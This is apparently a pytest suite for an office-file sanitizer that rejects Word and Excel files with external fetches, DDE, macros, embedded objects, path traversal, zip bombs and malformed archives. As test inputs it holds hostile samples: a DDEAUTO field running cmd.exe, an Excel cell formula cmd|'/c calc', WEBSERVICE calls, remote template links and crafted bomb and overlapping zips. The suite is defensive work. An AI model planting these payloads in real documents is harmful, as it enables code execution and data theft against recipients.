"""Word and Excel files are read as XML: refused for what acts or fetches, in whatever spelling; packed anew."""

import io
import time
import zipfile

import pytest
from PIL import Image

from massline.files.kinds import sanitize
from massline.files.process import judge
from massline.files.reasons import NotAccepted, Reason
from tests.file_lab import REL, TYPES, docx, docx_with, field, formula, packed, photo, relations, word_parts, xlsx

TEMPLATE = f'Type="{REL}/attachedTemplate" Target="http://host/a.dotm"'
PICTURE = f'Type="{REL}/image" Target="http://host/a.png"'


def rel(text: str) -> bytes:
    return docx(rels=relations(f'<Relationship Id="r9" {text}/>'))


OUTSIDE = {
    "double quotes": rel(TEMPLATE + ' TargetMode="External"'),
    "single quotes": rel(f"Type='{REL}/attachedTemplate' Target='http://host/a.dotm' TargetMode='External'"),
    "blanks around the sign": rel(PICTURE + ' TargetMode = "External"'),
    "line breaks": rel(PICTURE + '\n TargetMode\n=\n"External"'),
    "other letters": rel(PICTURE + ' TargetMode="external"'),
    "a prefix": docx(
        rels='<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<p:Relationship Id="r9" {PICTURE} TargetMode="External"/></p:Relationships>'
    ),
    "UTF-16": docx(rels=relations(f'<Relationship Id="r9" {PICTURE} TargetMode="External"/>').encode("utf-16")),
    "a reference for a letter": rel(PICTURE + ' TargetMode="Externa&#108;"'),
    "a reference in hexadecimal": rel(PICTURE + ' TargetMode="&#x45;xternal"'),
    "a link to a file": rel(f'Type="{REL}/hyperlink" Target="file://host/a" TargetMode="External"'),
    "a link to a share": rel(f'Type="{REL}/hyperlink" Target="\\\\host\\a" TargetMode="External"'),
    "mhtml": rel(f'Type="{REL}/hyperlink" Target="mhtml:http://host/a!x-usc:http://host/b" TargetMode="External"'),
    "mhtml without a mode": rel(f'Type="{REL}/oleObject1" Target="mhtml:http://host/a!x-usc:http://host/b"'),
    "a template inside": rel(f'Type="{REL}/attachedTemplate" Target="template.dotm"'),
    "another document": rel(f'Type="{REL}/subDocument" Target="a.docx"'),
    "a part of another kind": rel(f'Type="{REL}/aFChunk" Target="a.html"'),
    "alternative content": docx('<w:altChunk r:id="r9"/>'),
    "DDE": docx(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", ' "/k calc"')),
    "DDE over runs": docx(field("D", "D", "E ", "cmd")),
    "DDE in a simple field": docx("<w:p><w:fldSimple w:instr=' dde  cmd '><w:r/></w:fldSimple></w:p>"),
    "DDE in plain text of the code": docx(field("D").replace("</w:instrText>", "</w:instrText><w:t>DE cmd</w:t>")),
    "DDE made by another field": docx(
        field("DDE").replace("DDE", "</w:instrText></w:r>" + field("QUOTE 68 68")[5:-6] + "<w:r><w:instrText> cmd", 1)
    ),
    "DDE left open": docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText></w:r></w:p>'),
    "a linked object": docx(field('LINK Excel.Sheet "\\\\\\\\host\\\\a.xlsx"')),
    "a picture from elsewhere": docx(field('INCLUDEPICTURE "http://host/a.png" \\d')),
    "a text from elsewhere": docx(field('INCLUDETEXT "\\\\\\\\host\\\\a.docx"')),
    "a database": docx(field('DATABASE \\c "DSN=x"')),
    "a link field to a share": docx(field('HYPERLINK "\\\\\\\\host\\\\a"')),
    "a link field to a file": docx(field('HYPERLINK "file:///c:/a"')),
    "a picture by its address": docx('<w:pict><v:imagedata xmlns:v="urn:v" src="http:a"/></w:pict>'.replace("http:a", "file://host/a")),
    "a mail merge": docx_with(**{"word/settings.xml": "<settings><mailMerge/></settings>"}),
    "a document type": docx_with(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "an outer document type": docx_with(**{"word/a.xml": '<!DOCTYPE a SYSTEM "http://host/a"><a/>'}),
    "customXml": docx_with(
        **{"customXml/_rels/item1.xml.rels": relations(f'<Relationship Id="a" {PICTURE} TargetMode="External"/>')}
    ),
    "Excel: DDE": xlsx(**{"xl/links/a.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
    "Excel: another book": xlsx(
        **{"xl/_rels/workbook.xml.rels": relations(f'<Relationship Id="a" Type="{REL}/externalLink" Target="a.xml"/>')}
    ),
    "Excel: DDE in a cell": xlsx(formula("cmd|'/c calc'!A0")),
    "Excel: a web service": xlsx(formula('_xlfn.WEBSERVICE("http://host/"&amp;A1)')),
    "Excel: a picture from elsewhere": xlsx(formula('_xlfn.IMAGE("http://host/")')),
    "Excel: a link to a file": xlsx(formula('HYPERLINK("file://host/a","b")')),
    "Excel: a link to a share": xlsx(formula('HYPERLINK ("\\\\host\\a")')),
    "Excel: split over references": xlsx(formula("&#87;EBSERVICE(A1)")),
    "Excel: a name": xlsx(**{"xl/a.xml": "<a><definedName name='b'>RTD(\"a\",,\"b\")</definedName></a>"}),
    "Excel: connections": xlsx(**{"xl/connections.xml": "<connections><connection id='1'/></connections>"}),
    "Excel: a query": xlsx(
        **{"xl/worksheets/_rels/sheet1.xml.rels": relations(f'<Relationship Type="{REL}/queryTable" Target="q.xml"/>')}
    ),
}  # fmt: skip


def twice(name: str) -> bytes:
    return packed([*word_parts().items(), (name, "<a/>")])


ACTIVE = {
    "macros": docx_with(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macros under another name": docx_with(**{"word/a.dat": b"\xd0\xcf\x11\xe0"}),
    "macros by their type": docx_with(
        **{"[Content_Types].xml": TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled+xml")}
    ),
    "an embedded object": docx_with(**{"word/embeddings/oleObject1.bin": b"x"}),
    "an object by its relation": rel(f'Type="{REL}/oleObject" Target="media/a.png"'),
    "an object by its element": docx("<w:p><w:r><w:object/></w:r></w:p>"),
    "activeX": docx_with(**{"word/activeX/activeX1.xml": "<a/>"}),
    "a control": rel(f'Type="{REL}/control" Target="a.xml"'),
    "a program as a picture": docx_with(**{"word/media/a.png": b"MZ\x90\0"}),
    "a page as a picture": docx_with(**{"word/media/a.jpeg": b"<html>"}),
    "a picture that is declared to be XML": docx_with(
        **{
            "[Content_Types].xml": TYPES.replace(
                "</Types>", '<Override PartName="/word/media/a.png" ContentType="application/a+xml"/></Types>'
            )
        }
    ),
    "an archive inside": docx_with(**{"word/media/a.zip": docx()}),
    "a name twice": twice("word/document.xml"),
    "a name twice in other letters": twice("WORD/Document.xml"),
    "a way out": docx_with(**{"../a.xml": "<a/>"}),
    "another way out": docx_with(**{"/a.xml": "<a/>"}),
    "Excel: macros of old": xlsx(
        **{"xl/_rels/a.xml.rels": relations(f'<Relationship Id="a" Type="{REL}/xlMacrosheet" Target="b.xml"/>')}
    ),
}  # fmt: skip


def encrypted() -> bytes:
    content = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(mark) + place] |= 1
    return bytes(content)


def lying() -> bytes:
    """A member that says that it is small."""
    content = bytearray(docx_with(**{"word/a.xml": b"<a>" + b" " * 200_000_000 + b"</a>"}))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"PK\x05\x06"))
    content[at + 24 : at + 28] = (20).to_bytes(4, "little")
    return bytes(content)


def overlapping() -> bytes:
    """Two names for one member."""
    content = bytearray(docx_with(**{"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    ends = content.rfind(b"PK\x05\x06")
    last = content.rfind(b"PK\x01\x02", 0, ends)
    before = content.rfind(b"PK\x01\x02", 0, last)
    content[last + 42 : last + 46] = content[before + 42 : before + 46]
    return bytes(content)


BROKEN = {
    "no XML": docx_with(**{"word/a.xml": "<a><b></a>"}),
    "an encoding of its own": docx_with(**{"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
    "nothing": docx_with(**{"word/a.xml": "  "}),
    "half a file": docx()[:300],
    "something before it": b"PK\x03\x04" + b"\0" * 60 + docx(),
    "overlapping": overlapping(),
    "lying": lying(),
}


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        *(pytest.param(one, Reason.OFFICE_OUTSIDE, id=name) for name, one in OUTSIDE.items()),
        *(pytest.param(one, Reason.OFFICE_ACTIVE, id=name) for name, one in ACTIVE.items()),
        *(pytest.param(one, Reason.OFFICE_BROKEN, id=name) for name, one in BROKEN.items()),
        pytest.param(encrypted(), Reason.OFFICE_LOCKED, id="a password"),
        pytest.param(docx_with(**{"word/a.xml": b" " * 200_000_000}), Reason.HEAVY, id="a bomb"),
        pytest.param(packed({"a.txt": "a"}), Reason.ARCHIVE, id="an archive"),
        pytest.param(b"\xd0\xcf\x11\xe0" + b"\0" * 600, Reason.OLD_OFFICE, id="an old one"),
    ],
)
def test_what_acts_or_fetches_is_refused(content: bytes, reason: Reason) -> None:
    with pytest.raises(NotAccepted) as refused:
        sanitize(content)
    assert refused.value.reason == reason


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        docx(rels=relations(f'<Relationship Type="{REL}/hyperlink" Target="https://a.cn" TargetMode="External"/>')),
        docx(field(" PAGE  \\* MERGEFORMAT ") + field(' HYPERLINK "https://a.cn" \\o "a" ') + field("TOC \\o 1-3 \\h")),
        docx(field(' HYPERLINK \\l "here" \\* MERGEFORMAT')),
        docx(field("SEQ ", "图 \\* ARABIC") + field("=SUM(ABOVE)")),
        docx(field("IF ").replace("IF </w:instrText></w:r>", "IF </w:instrText></w:r>" + field("PAGE")[5:-6])),
        docx_with(**{"word/media/a.png": photo(fmt="PNG"), "word/media/b.emf": b"\x01\0\0\0" + b"\0" * 40}),
        xlsx(formula("SUM(A1:A9)&amp;\"|\"") + formula('HYPERLINK("#b!A1")')),
        xlsx(**{"xl/printerSettings/printerSettings1.bin": b"\0\1\2"}),
    ],
    ids=range(9),
)  # fmt: skip
def test_plain_documents_stay(content: bytes) -> None:
    kind, kept = sanitize(content)
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(io.BytesIO(kept)) as after:
        assert kind in ("docx", "xlsx") and before.namelist() == after.namelist()
        for name in before.namelist():
            assert before.read(name) == after.read(name) or name.endswith(".png")


def test_author_camera_and_what_lies_between_are_gone() -> None:
    parts = {
        "docProps/core.xml": "<a>Zhang San</a>",
        "docProps/app.xml": "<a>Company</a>",
        "word/media/a.jpeg": photo(),
        "word/media/b.png": photo(fmt="PNG") + b"<html>MAKER",
    }
    content = docx_with(**parts) + b"<html><script>"
    with zipfile.ZipFile(io.BytesIO(sanitize(content)[1])) as kept:
        everything, drawn = b"".join(map(kept.read, kept.namelist())), kept.read("word/media/b.png")
    assert b"Zhang" not in everything and b"Company" not in everything and b"MAKER" not in everything
    with Image.open(io.BytesIO(drawn)) as picture:
        assert picture.size == (60, 40) and picture.convert("RGB").getpixel((5, 5)) == (0, 128, 128)
    assert b"words that stay" in everything and b"<script" not in sanitize(content)[1]


def test_twenty_thousand_relations_are_quick() -> None:
    for text in ("<Relationship " * 20_000, relations("<Relationship Id='a' Type='b' Target='c'/>" * 20_000)):
        began = time.process_time()
        try:
            sanitize(docx(rels=text))
        except NotAccepted:
            pass
        assert time.process_time() - began < 1
    with pytest.raises(NotAccepted):
        judge(docx(rels="<Relationship " * 20_000))
